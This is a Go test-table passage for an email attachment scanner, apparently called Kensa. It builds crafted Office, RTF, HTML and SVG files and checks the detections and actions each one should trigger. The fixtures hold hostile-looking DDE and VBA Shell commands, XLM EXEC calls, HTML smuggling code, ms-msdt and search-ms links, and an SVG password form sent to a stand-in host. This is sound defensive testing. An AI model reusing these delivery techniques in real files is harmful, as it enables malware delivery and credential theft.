			data: f.XLSB(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1", Formulas: []f.XLSFormula{{Row: 0, Col: 0, Rgce: f.Ptg12NameX(1, 1)}}}},
				DDE: [][2]string{{"cmd", "/c notepad.exe"}}}),
			wants: []relWant{{"heuristic", "dde-exec", "/dde-links"}}},
		{name: "xlsb-benign-macro-sheet", about: "xlsb with a visible macro sheet and no auto-run: tagged as a macro document",
			action: policy.Tag, subject: "Totals", body: "Totals macro attached.\n", ctype: ctXlsb, file: "totals.xlsb",
			data: f.XLSB(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Data"}, {Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgInt(1), f.PtgInt(2), f.PtgFuncVar(2, f.FtabSum, false))},
				{Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, 0x37, false)}}}}}),
			wants: []relWant{{"heuristic", "office-macro", "/xlm/Macro1"}}},
		{name: "xls-dde-link", about: "xls whose external link is a DDE conversation with cmd",
			action: policy.Reject, subject: "Figures", body: "Figures attached.\n", ctype: "application/vnd.ms-excel", file: "figures.xls",
			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1", Formulas: []f.XLSFormula{{Row: 0, Col: 0, Rgce: f.PtgNameX(1, 1)}}}},
				DDE: [][2]string{{"cmd", "/c notepad.exe"}}}),
			wants: []relWant{{"heuristic", "dde-exec", "/dde-links"}}},
		{name: "xls-dde-formula-msexcel", about: "xls whose cell formula =1+MSEXCEL|'\\..\\..\\cmd.exe'!A0 names a DDE link written in UTF-16, as Excel writes one",
			action: policy.Reject, subject: "Budget", body: "The budget.\n", ctype: "application/vnd.ms-excel", file: "budget.xls",
			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Budget", Formulas: []f.XLSFormula{{Row: 3, Col: 1, Rgce: f.Cat(f.PtgInt(1), f.PtgNameX(1, 1), f.PtgAdd)}}}},
				DDE: [][2]string{{"MSEXCEL", `\..\..\..\Windows\System32\cmd.exe /c notepad.exe`}}, WideDDE: true}),
			wants: []relWant{{"heuristic", "dde-exec", "/dde-links"}}},
		{name: "docm-macro-no-autorun", about: "docm with a real VBA project and no auto-run procedure: tagged as a macro document",
			action: policy.Tag, subject: "Template", body: "The template with the formatting macro.\n", ctype: "application/vnd.ms-word.document.macroEnabled.12", file: "template.docm",
			data:  docx("Template", "", "", f.VBAProject(f.VBAModule{Name: "Formatting", Source: vbaFormatting})),
			wants: []relWant{{"heuristic", "office-macro", "/word/vbaProject.bin/vba/Formatting"}}},
		{name: "xls-benign-macro-sheet", about: "xls with a visible macro sheet and no auto-run: tagged as a macro document",
			action: policy.Tag, subject: "Totals", body: "Totals macro attached.\n", ctype: "application/vnd.ms-excel", file: "totals.xls",
			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Data"}, {Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgInt(1), f.PtgInt(2), f.PtgFuncVar(2, f.FtabSum, false))},
				{Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, 0x37, false)}}}}}),
			wants: []relWant{{"heuristic", "office-macro", "/xlm/Macro1"}}},
		{name: "xls-xlm-autorun-alert", about: "xls whose Auto_Open macro only shows a message",
			action: policy.Quarantine, subject: "Welcome", body: "The welcome workbook.\n", ctype: "application/vnd.ms-excel", file: "welcome.xls",
			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("Welcome"), f.PtgFuncVar(1, f.CetabAlert, true))}, {Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, 0x37, false)}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(0, 0, 0)}}}),
			wants: []relWant{{"heuristic", "xlm-autorun", "/xlm/Macro1"}}},
		{name: "xls-xlm-call-no-autorun", about: "xls whose macro sheet calls WinExec but has no auto-run name",
			action: policy.Quarantine, subject: "Tools", body: "The tools workbook.\n", ctype: "application/vnd.ms-excel", file: "tools.xls",
			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("Kernel32"), f.PtgStr("WinExec"), f.PtgStr("JCJ"), f.PtgStr("notepad.exe"), f.PtgInt(0), f.PtgFuncVar(5, f.FtabCall, false))}}}}}),
			wants: []relWant{{"heuristic", "xlm-exec", "/xlm/Macro1"}}},
		{name: "ppt-vba-activex-shell", about: "PowerPoint 97 .ppt whose VBA project, compressed in the PowerPoint Document stream, runs Shell from an ActiveX event",
			action: policy.Reject, subject: "Slides", body: "The slides for Monday.\n", ctype: "application/vnd.ms-powerpoint", file: "slides.ppt",
			data:  f.PPT(f.VBAProject(f.VBAModule{Name: "Slide1", Source: "Attribute VB_Name = \"Slide1\"\r\nPrivate Sub TextBox1_GotFocus()\r\n    Shell \"cmd.exe /c notepad.exe\", vbHide\r\nEnd Sub\r\n"})),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/embedding1.bin/vba/Slide1"}}},
		{name: "ppt-vba-persist-gaps", about: "PowerPoint .ppt whose objects lie apart with junk between them: PowerPoint finds the VBA storage through the persist directory, a walk of the records does not",
			action: policy.Reject, subject: "Deck", body: "The deck for the board.\n", ctype: "application/vnd.ms-powerpoint", file: "deck.ppt",
			data:  f.PPTWith(f.PPTOptions{Gap: 29, VBA: f.VBAProject(f.VBAModule{Name: "Module1", Source: "Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\n    Shell \"cmd.exe /c notepad.exe\", vbHide\r\nEnd Sub\r\n"})}),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/embedding1.bin/vba/Module1"}}},
		{name: "flat-opc-docm", about: "a macro-enabled Word document saved as one XML file (Flat OPC) and named .doc: its VBA project base64 in a pkg:part, an AutoOpen Shell macro",
			action: policy.Reject, subject: "Memo", body: "The memo.\n", ctype: "application/msword", file: "memo.doc",
			data: f.FlatOPC(f.FlatOPCPart{Name: "/word/document.xml", ContentType: "application/vnd.ms-word.document.macroEnabled.main+xml",
				XML: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Memo</w:t></w:r></w:p></w:body></w:document>`},
				f.FlatOPCPart{Name: "/word/vbaProject.bin", ContentType: "application/vnd.ms-office.vbaProject", Data: f.VBAProject(f.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})}),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/word/vbaProject.bin/vba/NewMacros"}}},
		{name: "word2003-xml-macro", about: "a Word 2003 XML document (.xml) whose editdata.mso (ActiveMime) holds an AutoOpen Shell macro",
			action: policy.Reject, subject: "Memo", body: "The memo.\n", ctype: "text/xml", file: "memo.xml",
			data:  f.Word2003XML("Memo", f.VBAProject(f.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/editdata.mso/editdata.bin/vba/NewMacros"}}},
		{name: "mht-doc-macro", about: "a Word document saved as a single-file web page (MHT) and named .doc: its editdata.mso part, ActiveMime, holds an AutoOpen Shell macro",
			action: policy.Reject, subject: "Memo", body: "The memo.\n", ctype: "application/msword", file: "memo.doc",
			data:  f.WordWebArchive("Memo", f.VBAProject(f.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/2/activemime/ole.bin/vba/NewMacros"}}},
		{name: "maldoc-in-pdf", about: "MalDoc in PDF: a PDF with a Word web archive after its objects, named .doc; PDF readers show the PDF, Word the document and its AutoOpen macro",
			action: policy.Reject, subject: "Statement", body: "The statement.\n", ctype: "application/msword", file: "statement.doc",
			data: append(append([]byte("%PDF-1.7\r\n%\xE2\xE3\xCF\xD3\r\n1 0 obj\r\n<< /Type /Catalog /Pages 2 0 R >>\r\nendobj\r\n2 0 obj\r\n<< /Type /Pages /Kids [] /Count 0 >>\r\nendobj\r\n"),
				f.WordWebArchive("Statement", f.VBAProject(f.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell}))...), "trailer\r\n<< /Root 1 0 R >>\r\n%%EOF\r\n"...),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/2/activemime/ole.bin/vba/NewMacros"}}},
		{name: "doc-autoopen-module-main", about: "Word .doc whose module is named AutoOpen: Word runs its Sub Main",
			action: policy.Reject, subject: "Memo", body: "The memo.\n", ctype: "application/msword", file: "memo.doc",
			data:  wordDoc("Memo", f.VBAModule{Name: "AutoOpen", Source: "Attribute VB_Name = \"AutoOpen\"\r\nSub Main()\r\n    Shell \"cmd.exe /c notepad.exe\", vbHide\r\nEnd Sub\r\n"}),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/vba/AutoOpen"}}},
		{name: "doc-vba-stomped", about: "Word .doc whose module source was blanked while its p-code still runs cmd (VBA stomping)",
			action: policy.Quarantine, subject: "Form", body: "The form.\n", ctype: "application/msword", file: "form.doc",
			data: wordDoc("Form", f.VBAModule{Name: "NewMacros", Source: "Attribute VB_Name = \"NewMacros\"\r\n",
				PCode: []byte("\x00\x01\x1b\x00cmd.exe /c notepad.exe\x00\x27\x00WScript.Shell\x00\x00")}),
			wants: []relWant{{"heuristic", "vba-stomping", "/vba-pcode/NewMacros"}}},
		{name: "rtf-equation-editor", about: "RTF with an Equation.3 object (the CVE-2017-11882 family) whose objdata hex is broken up by ignorable groups and control words",
			action: policy.Reject, subject: "Quotation", body: "Our quotation.\n", ctype: "application/rtf", file: "quotation.rtf",
			data:  rtfObject("Quotation", "Equation.3", f.OLE1("Equation.3", f.EquationObject(true)), true),
			wants: []relWant{{"heuristic", "equation-editor", ""}, {"heuristic", "equation-editor", "/object1.Equation.3.bin"}}},
		{name: "rtf-equation-clsid-only", about: "RTF whose object claims another class: only the compound file's CLSID says Equation.3",
			action: policy.Reject, subject: "Order", body: "The order.\n", ctype: "application/rtf", file: "order.rtf",
			data:  rtfObject("Order", "Word.Document.8", f.OLE1("Word.Document.8", f.CFBClass(f.EquationCLSID, []f.CFBEntry{{Name: "Contents", Parent: -1, Data: []byte("stand-in")}})), false),
			wants: []relWant{{"heuristic", "equation-editor", "/object1.Word.Document.8.bin"}}},
		{name: "docx-equation-embedding", about: "docx with an Equation Editor object in word/embeddings",
			action: policy.Reject, subject: "Offer", body: "Our offer.\n", ctype: ctDocx, file: "offer.docx",
			data: docxOf(`<w:p><w:r><w:t>Offer</w:t></w:r></w:p>`, "", "", nil, docxPart{name: "word/embeddings/oleObject1.bin",
				relType: officeRel + "/oleObject", relID: "rIdO1", data: f.EquationObject(false)}),
			wants: []relWant{{"heuristic", "equation-editor", "/word/embeddings/oleObject1.bin/Equation Native"}}},
		{name: "docx-ole-package-js", about: "docx whose embedded OLE Package object carries a JScript dropper",
			action: policy.Reject, subject: "Invoice", body: "Double-click the icon in the invoice.\n", ctype: ctDocx, file: "invoice.docx",
			data: docxOf(`<w:p><w:r><w:t>Invoice</w:t></w:r></w:p>`, "", "", nil, docxPart{name: "word/embeddings/oleObject1.bin",
				relType: officeRel + "/oleObject", relID: "rIdO1", data: f.PackageStorage("invoice.js", []byte(jsDropper))}),
			wants: []relWant{{"heuristic", "executable-in-container", "/word/embeddings/oleObject1.bin/Ole10Native/invoice.js"},
				{"yara", "Kensa_Script_Dropper", "/word/embeddings/oleObject1.bin/Ole10Native/invoice.js"}}},
		{name: "rtf-package-obfuscated-objdata", about: "RTF OLE Package with a JScript dropper, its objdata hex interrupted by ignorable groups, control words and line breaks",
			action: policy.Reject, subject: "Statement", body: "Your statement.\n", ctype: "application/rtf", file: "statement.rtf",
			data:  rtfObject("Statement", "Package", f.OLE1("Package", f.Ole10Native("statement.js", []byte(jsDropper))[4:]), true),
			wants: []relWant{{"heuristic", "executable-in-container", "/object1.bin/statement.js"}}},
		{name: "docx-oleobject-external", about: "docx whose oleObject relation loads a UNC path, written with a prefix, single quotes and entities",
			action: policy.Quarantine, subject: "Chart", body: "The chart.\n", ctype: ctDocx, file: "chart.docx",
			data:  docxOf(`<w:p><w:r><w:t>Chart</w:t></w:r></w:p>`, `<pr:Relationship xmlns:pr="`+relsNS+`" Id='rIdX' Type='`+officeRel+`/oleObject' Target='&#92;&#92;203.0.113.7\share\chart.xls' TargetMode='External'/>`, "", nil),
			wants: []relWant{{"heuristic", "remote-template", "/word/_rels/document.xml.rels"}}},
		{name: "html-smuggling-obfuscated", about: "HTML that builds atob and Blob from string pieces and joins a zip's base64 from many variables",
			action: policy.Quarantine, subject: "Your document", body: "Open the attached page to get your document.\n", ctype: "text/html; charset=utf-8", file: "document.html",
			data:  []byte(obfuscatedSmuggling()),
			wants: []relWant{{"heuristic", "html-smuggling", ""}}},
		{name: "html-smuggling-fromcharcode", about: "HTML whose Blob name comes from String.fromCharCode and whose payload is a Uint8Array of numbers",
			action: policy.Quarantine, subject: "Scan", body: "Your scan.\n", ctype: "text/html; charset=utf-8", file: "scan.html",
			data:  []byte(charCodeSmuggling()),
			wants: []relWant{{"heuristic", "html-smuggling", ""}}},
		{name: "html-data-iframe", about: "HTML attachment framing a data: page",
			action: policy.Quarantine, subject: "Voicemail", body: "New voicemail.\n", ctype: "text/html; charset=utf-8", file: "voicemail.html",
			data:  []byte(`<html><body><iframe src="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte("<h1>Kensa corpus stand-in</h1>")) + `" width="100%" height="600"></iframe></body></html>`),
			wants: []relWant{{"heuristic", "html-smuggling", ""}}},
		{name: "html-search-ms-entities", about: "HTML whose search-ms: link is written with character references",
			action: policy.Reject, subject: "Shared folder", body: "Open the shared folder.\n", ctype: "text/html; charset=utf-8", file: "folder.html",
			data:  []byte(`<html><body><a href="search&#45;ms&#58;query=invoice&amp;crumb=location:\\203.0.113.7@80\share">Open folder</a></body></html>`),
			wants: []relWant{{"heuristic", "ms-protocol-handler", ""}}},
		{name: "svg-foreignobject-handler", about: "SVG image carrying an HTML form in foreignObject and an onload handler, entity-encoded",
			action: policy.Quarantine, subject: "Invoice image", body: "The invoice image.\n", ctype: "image/svg+xml", file: "invoice.svg",
			data:  []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" o&#110;load="location='https://collect.example.net/'"><foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://collect.example.net/login"><input name="password" type="password"/></form></body></foreignObject></svg>`),
			wants: []relWant{{"heuristic", "svg-script", ""}}},
		{name: "html-css-escaped-ms-msdt", about: "HTML whose ms-msdt: link hides its hyphen behind a CSS escape in a style url()",
			action: policy.Reject, subject: "Notice", body: "The notice.\n", ctype: "text/html; charset=utf-8", file: "notice.html",
			data:  []byte(`<html><body><div style="background-image:url('ms\2d msdt:/id PCWDiagnostic /skip force')">Loading</div></body></html>`),
			wants: []relWant{{"heuristic", "ms-protocol-handler", ""}}},
		{name: "svg-prefixed-script", about: "SVG image whose script element has a namespace prefix",
			action: policy.Tag, subject: "Chart", body: "The chart.\n", ctype: "image/svg+xml", file: "chart.svg",
			data:  []byte(`<s:svg xmlns:s="http://www.w3.org/2000/svg" width="100" height="100"><s:rect width="100" height="100"/><s:script>window.location = "https://collect.example.net/";</s:script></s:svg>`),
			wants: []relWant{{"heuristic", "svg-script", ""}}},
		{name: "xls-velvetsweatshop-xlm", about: "xls encrypted with Excel's default password VelvetSweatshop (opens without a prompt), hiding an Auto_Open EXEC macro sheet",
			action: policy.Reject, subject: "Invoice", body: "Invoice attached.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
			data: f.EncryptedXLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("cmd /c notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}}}, "VelvetSweatshop"),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Macro1"}}},
		{name: "docx-encrypted-package", about: "an encrypted OOXML document (Agile EncryptedPackage) whose password appears nowhere: unscannable",
			action: policy.Quarantine, subject: "Contract", body: "The contract is attached.\n", ctype: ctDocx, file: "contract.docx",
			data:  f.AgileEncryptedOOXML(docx("Contract", "", "", nil), "unguessable-7Qw", 100000),
			wants: []relWant{{"kensa", "encrypted-document", ""}}},
		{name: "xlsm-agile-velvetsweatshop", about: "xlsm encrypted with Agile encryption (AES-256, SHA-512, 100,000 spins) under Office's default password VelvetSweatshop, hiding an AutoOpen Shell macro",
			action: policy.Reject, subject: "Invoice", body: "Invoice attached.\n", ctype: ctXlsx, file: "invoice.xlsm",
			data:  f.AgileEncryptedOOXML(xlsx([][]string{{"Invoice", "4711"}}, f.VBAProject(f.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})), f.DefaultOfficePassword, 100000),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/EncryptedPackage (decrypted)/xl/vbaProject.bin/vba/NewMacros"}}},
		{name: "xls-cryptoapi-velvetsweatshop-xlm", about: "xls encrypted with RC4 CryptoAPI (128-bit, as Excel 2003 and later write it) under VelvetSweatshop, hiding an Auto_Open EXEC macro sheet",
			action: policy.Reject, subject: "Invoice", body: "Invoice attached.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
			data: f.EncryptedXLSCryptoAPI(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("cmd /c notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}}}, f.DefaultOfficePassword, 128),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Macro1"}}},
		{name: "xls-cryptoapi40-body-password-dde", about: "xls encrypted with 40-bit RC4 CryptoAPI under a password the body gives, hiding a DDE link to cmd",
			action: policy.Reject, subject: "Figures", body: "Figures attached. Password: Fig-2027\n", ctype: "application/vnd.ms-excel", file: "figures.xls",
			data:  f.EncryptedXLSCryptoAPI(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1"}}, DDE: [][2]string{{"cmd", "/c notepad.exe"}}}, "Fig-2027", 40),
			wants: []relWant{{"heuristic", "dde-exec", "/dde-links"}, {"heuristic", "password-from-body", ""}}},
		{name: "doc-rc4-body-password-dde", about: "Word 97 .doc encrypted with RC4 under a password the body gives, hiding a DDEAUTO field that starts cmd.exe",
			action: policy.Reject, subject: "Notice", body: "The notice is protected, password: Notice-2027\n", ctype: "application/msword", file: "notice.doc",
			data:  f.CFB(f.EncryptWord(wordDocEntries("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"), "Notice-2027", false)),
			wants: []relWant{{"heuristic", "dde-exec", "/decrypted/WordDocument"}, {"heuristic", "password-from-body", ""}}},
		{name: "doc-xor-body-password-dde", about: "Word .doc XOR-obfuscated (Word 6-2003's weak protection: fObfuscation, the key and verifier in lKey) under a password the body gives, hiding a DDEAUTO field that starts cmd.exe",
			action: policy.Reject, subject: "Notice", body: "The notice is protected, password: Notice-2027\n", ctype: "application/msword", file: "notice.doc",
			data:  f.CFB(f.XORObfuscateWord(wordDocEntries("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"), "Notice-2027")),
			wants: []relWant{{"heuristic", "dde-exec", "/decrypted/WordDocument"}, {"heuristic", "password-from-body", ""}}},
		{name: "doc-cryptoapi-velvetsweatshop-dde", about: "Word .doc encrypted with RC4 CryptoAPI (128-bit) under VelvetSweatshop, hiding a DDEAUTO field that starts cmd.exe",
			action: policy.Reject, subject: "Notice", body: "The notice.\n", ctype: "application/msword", file: "notice.doc",
			data:  f.CFB(f.EncryptWord(wordDocEntries("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"), f.DefaultOfficePassword, true)),
			wants: []relWant{{"heuristic", "dde-exec", "/decrypted/WordDocument"}}},
		{name: "doc-cryptoapi-unknown-password", about: "Word .doc encrypted with RC4 CryptoAPI under a password that appears nowhere: unscannable",
			action: policy.Quarantine, subject: "Notice", body: "The notice.\n", ctype: "application/msword", file: "notice.doc",
			data:  f.CFB(f.EncryptWord(wordDocEntries("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"), "unguessable-7Qw", true)),
			wants: []relWant{{"kensa", "encrypted-document", ""}}},
		{name: "doc-storages-nested-deep", about: "Word .doc whose 40 storages each lie inside the one before (a reader's cost grows with the nesting squared: thousands deep cost gigabytes): refused unread, unscannable",
			action: policy.Quarantine, subject: "Report", body: "The report.\n", ctype: "application/msword", file: "report.doc",
			data:  f.CFB(nestedStorages(wordDocEntries("Quarterly report"), 40)),
			wants: []relWant{{"kensa", "limit-depth", ""}}},
		{name: "xlsm-standard-unknown-password", about: "xlsm encrypted with Standard encryption under a password that appears nowhere: unscannable",
			action: policy.Quarantine, subject: "Price list", body: "The price list is attached.\n", ctype: ctXlsx, file: "prices.xlsm",
			data:  f.StandardEncryptedOOXML(xlsx([][]string{{"Item", "Price"}}, f.VBAProject(f.VBAModule{Name: "ThisWorkbook", Source: vbaWorkbookOpen})), "unguessable-7Qw"),
			wants: []relWant{{"kensa", "encrypted-document", ""}}},
		{name: "xls-xor-velvetsweatshop-xlm", about: "xls obfuscated with XOR (FILEPASS type 0, as Excel 95 wrote it and Excel still opens) under VelvetSweatshop, hiding an Auto_Open EXEC macro sheet",
			action: policy.Reject, subject: "Invoice", body: "Invoice attached.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
			data: f.XORObfuscatedXLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("cmd /c notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}}}, f.DefaultOfficePassword),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Macro1"}}},
		{name: "xls-xor-obfuscated", about: "xls obfuscated with XOR (FILEPASS type 0) under a key no known password matches: unscannable",
			action: policy.Quarantine, subject: "Figures", body: "Figures attached.\n", ctype: "application/vnd.ms-excel", file: "figures.xls",
			data:  f.XLSWithFilePass(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Sheet1"}}}, []byte{0, 0, 0x34, 0x12, 0x56, 0x78}),
			wants: []relWant{{"kensa", "encrypted-document", ""}}},
		{name: "ppt-cryptoapi-velvetsweatshop-vba", about: "PowerPoint .ppt encrypted with RC4 CryptoAPI under VelvetSweatshop, hiding a VBA project that runs Shell from an ActiveX event",
			action: policy.Reject, subject: "Slides", body: "The slides for Monday.\n", ctype: "application/vnd.ms-powerpoint", file: "slides.ppt",
			data:  f.PPTWith(f.PPTOptions{Password: f.DefaultOfficePassword, VBA: f.VBAProject(f.VBAModule{Name: "Slide1", Source: "Attribute VB_Name = \"Slide1\"\r\nPrivate Sub TextBox1_GotFocus()\r\n    Shell \"cmd.exe /c notepad.exe\", vbHide\r\nEnd Sub\r\n"})}),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/embedding1.bin/vba/Slide1"}}},
		{name: "ppt-cryptoapi-body-password-vba", about: "PowerPoint .ppt encrypted with RC4 CryptoAPI under a password the body gives, hiding an Auto_Open Shell macro",
			action: policy.Reject, subject: "Deck", body: "The deck is protected.\nPassword: Deck-2027\n", ctype: "application/vnd.ms-powerpoint", file: "deck.ppt",
			data:  f.PPTWith(f.PPTOptions{Password: "Deck-2027", Gap: 11, VBA: f.VBAProject(f.VBAModule{Name: "Module1", Source: "Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\n    Shell \"cmd.exe /c notepad.exe\", vbHide\r\nEnd Sub\r\n"})}),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/embedding1.bin/vba/Module1"}, {"heuristic", "password-from-body", ""}}},
		{name: "docx-standard-velvetsweatshop-dde", about: "docx encrypted with Standard encryption (AES-128) under VelvetSweatshop, hiding a DDEAUTO field that starts cmd.exe",
			action: policy.Reject, subject: "Order", body: "Please confirm the attached order.\n", ctype: ctDocx, file: "order.docx",
			data:  f.StandardEncryptedOOXML(docxOf(`<w:p>`+fldRuns("DDEAUTO ", ddeCmd)+`</w:p>`, "", "", nil), f.DefaultOfficePassword),
			wants: []relWant{{"heuristic", "dde-exec", "/EncryptedPackage (decrypted)/word/document.xml"}}},
		{name: "docm-agile-body-password", about: "docm encrypted with Agile encryption under a password the mail body gives, hiding an AutoOpen Shell macro",
			action: policy.Reject, subject: "Order", body: "The order is protected.\nPassword: Order-4711\n", ctype: "application/vnd.ms-word.document.macroEnabled.12", file: "order.docm",
			data: f.AgileEncryptedOOXML(docx("Order", "", "", f.VBAProject(f.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})), "Order-4711", 100000),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/EncryptedPackage (decrypted)/word/vbaProject.bin/vba/NewMacros"},
				{"heuristic", "password-from-body", ""}}},
		{name: "xlsm-standard-body-password", about: "xlsm encrypted with Standard encryption under a password the mail body gives, hiding a Workbook_Open macro",
			action: policy.Quarantine, subject: "Price list", body: "Das Passwort lautet: Preise2027\n", ctype: ctXlsx, file: "prices.xlsm",
			data:  f.StandardEncryptedOOXML(xlsx([][]string{{"Item", "Price"}}, f.VBAProject(f.VBAModule{Name: "ThisWorkbook", Source: vbaWorkbookOpen})), "Preise2027"),
			wants: []relWant{{"heuristic", "vba-autorun", "/EncryptedPackage (decrypted)/xl/vbaProject.bin/vba/ThisWorkbook"}, {"heuristic", "password-from-body", ""}}},
	}
}

// obfuscatedSmuggling assembles a stand-in zip in the browser with every
// name and the payload built from pieces.
func obfuscatedSmuggling() string {
	payload := fakeZipB64(6000)
	var decls, names []string
	for i := 0; i < 12; i++ {
		n := "c" + itoa(i)
		decls = append(decls, "var "+n+" = '"+payload[i*len(payload)/12:(i+1)*len(payload)/12]+"';")
		names = append(names, n)
	}
	return "<html><body><script>\r\n" + strings.Join(decls, "\r\n") + "\r\nvar k = 'at' + 'ob';\r\nvar raw = window[k](" + strings.Join(names, " + ") + ");\r\n" +
		"var u = new Uint8Array(raw.length);\r\nfor (var i = 0; i < raw.length; i++) { u[i] = raw.charCodeAt(i); }\r\n" +
		"var o = new window['Bl' + 'ob']([u], {type: 'application/zip'});\r\nvar a = document.createElement('a');\r\na.href = window['U' + 'RL']['create' + 'ObjectURL'](o);\r\n" +
		"a.download = 'document.zip';\r\na.click();\r\n</script></body></html>\r\n"
}

// charCodeSmuggling spells Blob with String.fromCharCode and carries the
// stand-in zip as a number list.
func charCodeSmuggling() string {
	var nums []string
	for _, c := range []byte(fakeZipB64(3000)) {
		nums = append(nums, itoa(int(c)))
	}
	return "<html><body><script>\r\nvar n = String.fromCharCode(66,108,111,98);\r\nvar B = window[n];\r\nvar d = new Uint8Array([" + strings.Join(nums, ",") + "]);\r\n" +
		"var o = new B([d]);\r\nlocation.href = window.URL.createObjectURL(o);\r\n</script></body></html>\r\n"
}

// rtfObject is an RTF document with one embedded object: the class RTF
// declares, and \objdata holding obj (OLE1 bytes) as hex. obfuscate breaks
// the hex up with what Word skips: ignorable groups with hex digits in
// them, control words and line breaks.
func rtfObject(text, declared string, obj []byte, obfuscate bool) []byte {
	h := hex.EncodeToString(obj)
	var b strings.Builder
	for i := 0; i < len(h); i += 64 {
		chunk := h[i:min(i+64, len(h))]
		if obfuscate {
			b.WriteString(chunk[:len(chunk)/2] + `{\*\kensajunk 0a1b2c3}` + chunk[len(chunk)/2:] + `\par12 ` + "\r\n")
		} else {
			b.WriteString(chunk + "\r\n")
		}
	}
	return []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}` + "\r\n" + `\pard ` + text + `\par` + "\r\n" +
		`{\object\objemb{\*\objclass ` + declared + `}\objw2000\objh800{\*\objdata ` + "\r\n" + b.String() + `}}` + "\r\n}")
}

// vbaFormatting is an honest macro: it formats, needs a click, calls nothing.
const vbaFormatting = "Attribute VB_Name = \"Formatting\"\r\nSub FormatHeadings()\r\n    Dim p\r\n    For Each p In ActiveDocument.Paragraphs\r\n        If p.OutlineLevel = 1 Then p.Range.Bold = True\r\n    Next\r\nEnd Sub\r\n"

// xlsmMacroSheet is a macro-enabled workbook with a worksheet and a hidden
// Excel 4.0 macro sheet holding cells, run by _xlnm.Auto_Open.
func xlsmMacroSheet(cells string) []byte { return xlsmMacroSheetIn("macrosheets", cells) }

// xlsmMacroSheetIn is xlsmMacroSheet with the sheet in xl/<dir>/:
// "intlMacrosheets" for an international macro sheet.
func xlsmMacroSheetIn(dir, cells string) []byte {
	ns := `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + officeRel + `"`
	return zipOf(
		file{"[Content_Types].xml", []byte(xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
